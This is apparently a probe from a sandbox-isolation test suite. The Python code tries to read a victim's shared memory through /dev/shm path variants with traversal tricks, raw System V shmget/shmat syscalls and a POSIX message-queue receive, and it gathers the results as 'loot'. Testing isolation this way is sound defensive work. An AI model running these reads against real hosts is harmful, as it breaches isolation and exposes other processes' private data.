"""Reads shared memory of the host's: a file of /dev/shm, a segment of System V, a message queue.

group: /proc, /sys and /dev
effect: reads
"""
SYS_SHMGET, SYS_SHMAT, SYS_MQ_OPEN, SYS_MQ_TIMEDRECEIVE = 29, 30, 240, 243
name = os.path.basename(arena.directory)
for prefix in ("/dev/shm/", "/proc/self/root/dev/shm/", "/dev/fd/../../../dev/shm/", "/run/shm/"):
    with attempt(prefix):
        loot(read(prefix + name))
with attempt("System V"):
    identifier = syscall(SYS_SHMGET, arena.victim, 0, 0)
    loot(ctypes.string_at(syscall(SYS_SHMAT, identifier, None, 0o10000), 200))
with attempt("queue"):
    queue = syscall(SYS_MQ_OPEN, name.encode(), os.O_RDONLY | os.O_NONBLOCK, 0, None)
    buffer = ctypes.create_string_buffer(8192)
    syscall(SYS_MQ_TIMEDRECEIVE, queue, buffer, len(buffer), None, None)
    loot(buffer.value)
